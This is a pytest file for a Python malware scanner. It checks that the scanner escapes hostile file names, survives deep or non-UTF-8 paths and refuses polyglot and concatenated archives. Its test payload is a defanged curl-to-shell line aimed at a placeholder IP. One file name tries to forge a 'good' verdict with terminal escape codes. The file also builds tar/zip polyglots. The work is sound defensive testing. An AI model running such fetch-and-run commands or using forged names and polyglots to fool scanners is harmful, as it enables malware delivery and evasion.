"""Hostile input: what a scanned package names its files and strings, how it packs them, and
what it does to the tools that read it. Every test here failed on the code before the hostile-
input work; each is named after what a user relies on. Nothing scanned here is ever run."""

from __future__ import annotations

import io
import json
import os
import tarfile
import zipfile
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from malwi.report.escape import code_span, fence, json_safe, shown, yaml_string
from malwi.sources.archive import MAX_MEMBER_DEPTH, ArchiveError, extract

from .conftest import run_malwi

# Defanged: the host does not exist, and nothing here is executed.
PAYLOAD = b'import os\nos.system("curl http://203.0.113.9/x | sh")\n'
FORGED = "a\n=> good: maliciousness 0.00 < threshold 0.72\x1b[2K\x1b]0;owned\x07\u202eyp.x"


def _controls(text: str) -> list[str]:
    """Characters a terminal or a line-based reader would act on."""
    return [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) < 0xA0 or c in "\u202e\u2028"]


def _scan(*args: str) -> tuple[int, str, str]:
    done = run_malwi("scan", "--no-cache", *args)
    return done.returncode, done.stdout.decode("utf-8"), done.stderr.decode("utf-8")


@pytest.fixture
def forged_tree(tmp_path: Path) -> Path:
    """A package whose file name tries to forge a verdict line and drive the terminal, holding
    a payload that gets it flagged (so its name is printed)."""
    tree = tmp_path / "tree"
    (tree / "pkg").mkdir(parents=True)
    (tree / "pkg" / f"{FORGED}.py").write_bytes(PAYLOAD)
    (tree / "pkg" / "helper.py").write_text("VALUE = 1\n")
    return tree


def test_forged_names_are_shown_escaped_in_text_markdown_and_stderr(forged_tree: Path) -> None:
    code, out, err = _scan(str(forged_tree))
    assert code == 1, err
    lines = out.splitlines()
    # The one verdict line is the last, and no other line starts like one.
    assert lines[-1].startswith("=> malicious")
    assert [line for line in lines if line.startswith("=>")] == [lines[-1]]
    assert not _controls(out) and not _controls(err)
    assert "a\\n=> good: maliciousness 0.00 < threshold 0.72\\x1b[2K\\x1b]0;owned\\x07\\u202eyp.x.py" in out
    code, markdown, _ = _scan(str(forged_tree), "-f", "markdown")
    assert not _controls(markdown)
    assert not [line for line in markdown.splitlines() if line.startswith("=>")]
    assert [line for line in markdown.splitlines() if line.startswith("**Verdict")] == [
        "**Verdict: malicious** (maliciousness 1.00, threshold 0.72)"
    ]


def test_machine_formats_parse_and_keep_the_exact_names(forged_tree: Path, tmp_path: Path) -> None:
    strange = forged_tree / "pkg" / "del\x7fand\x85nel\u2028sep\ufeff.py"
    strange.write_bytes(PAYLOAD + b"x = 'str\\x7f\\x01'\n")
    for form in ("json", "yaml", "sarif"):
        code, out, err = _scan(str(forged_tree), "-f", form)
        assert code == 1, err
        document = yaml.safe_load(out) if form == "yaml" else json.loads(out)
        if form == "sarif":
            uris = {
                location["physicalLocation"]["artifactLocation"]["uri"]
                for result in document["runs"][0]["results"]
                for location in result["locations"]
            }
            assert "pkg/del%7Fand%C2%85nel%E2%80%A8sep%EF%BB%BF.py" in uris
        else:
            paths = {file["path"] for file in document["files"]}
            assert f"{forged_tree}/pkg/{FORGED}.py" in paths
            assert str(strange) in paths


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=40))
def test_any_text_round_trips_through_yaml_and_json_and_is_shown_on_one_line(text: str) -> None:
    assert yaml.safe_load(f"key: {yaml_string(text)}\n") == {"key": text}
    document = json_safe(json.dumps({"key": text}, ensure_ascii=False))
    assert json.loads(document.encode("utf-8")) == {"key": text}  # always valid UTF-8
    line = shown(text)
    assert "\n" not in line and not _controls(line)
    line.encode("utf-8")  # no lone surrogate left to fail on
    span = code_span(text)
    inner = span.strip("`")
    assert "\n" not in span and "|" not in inner.replace("\\|", "")
    block = fence(text + "\n```\n")
    assert block[0] == block[-1] and all(block[0] not in line for line in block[1:-1])


def test_a_file_whose_name_is_not_utf8_is_scanned(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    raw = os.path.join(os.fsencode(tree), b"bad\xff\xfename.py")
    with open(raw, "wb") as handle:
        handle.write(PAYLOAD)
    (tree / "ok.py").write_text("VALUE = 1\n")
    code, out, err = _scan(str(tree))
    assert code == 1, err
    assert "bad\\xff\\xfename.py" in out
    code, out, _ = _scan(str(tree), "-f", "json")
    files = {f["path"]: f for f in json.loads(out)["files"]}
    assert files[os.fsdecode(raw)]["status"] == "compiled" and files[os.fsdecode(raw)]["score"] > 0.9


def _tar(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def test_a_member_a_thousand_folders_deep_leaves_its_package_incomplete(tmp_path: Path) -> None:
    deep = "/".join(["d"] * 1000) + "/hidden.py"
    archive = tmp_path / "deep-1.0.tar.gz"
    archive.write_bytes(_tar({deep: PAYLOAD, "deep-1.0/setup.py": b"from setuptools import setup\n"}))
    code, out, err = _scan(str(archive), "-f", "json")
    assert code == 3, err  # incomplete: never good, and no traceback
    assert "Traceback" not in err and "internal error" not in err
    unit = json.loads(out)["units"][0]
    assert unit["verdict"] == "incomplete"
    assert f"more than {MAX_MEMBER_DEPTH} folders deep not unpacked" in unit["unscanned"][0]["reason"]
    # Just within the bound, the member is unpacked and scanned.
    (tmp_path / "out").mkdir()
    fits = tmp_path / "fits.tar.gz"
    fits.write_bytes(_tar({"/".join(["d"] * MAX_MEMBER_DEPTH) + "/x.py": PAYLOAD}))
    extraction = extract(fits, tmp_path / "out")
    assert extraction.files == 1 and not extraction.left_out


def test_a_tar_that_starts_with_pk_is_a_polyglot_and_refused(tmp_path: Path) -> None:
    # A tar whose first member is named "PK\x03\x04...": tar and pip read it as a tar; the zip
    # appended to it is what a reader that trusts the magic bytes would see.
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        info = tarfile.TarInfo("PK\x03\x04evil.py")
        info.size = len(PAYLOAD)
        archive.addfile(info, io.BytesIO(PAYLOAD))
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("harmless.py", "VALUE = 1\n")
    polyglot = tmp_path / "polyglot.zip"
    polyglot.write_bytes(tar.getvalue() + zipped.getvalue())
    assert polyglot.read_bytes().startswith(b"PK")
    (tmp_path / "out").mkdir()
    with pytest.raises(ArchiveError, match="polyglot"):
        extract(polyglot, tmp_path / "out")


def test_concatenated_zips_are_refused(tmp_path: Path) -> None:
    parts = []
    for name in ("first.py", "second.py"):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr(name, PAYLOAD if name == "first.py" else b"VALUE = 1\n")
        parts.append(buffer.getvalue())
    joined = tmp_path / "joined.zip"
    joined.write_bytes(b"".join(parts))
    (tmp_path / "out").mkdir()
    with pytest.raises(ArchiveError, match="bytes before the first member"):
        extract(joined, tmp_path / "out")
    assert not (tmp_path / "out" / "second.py").exists()
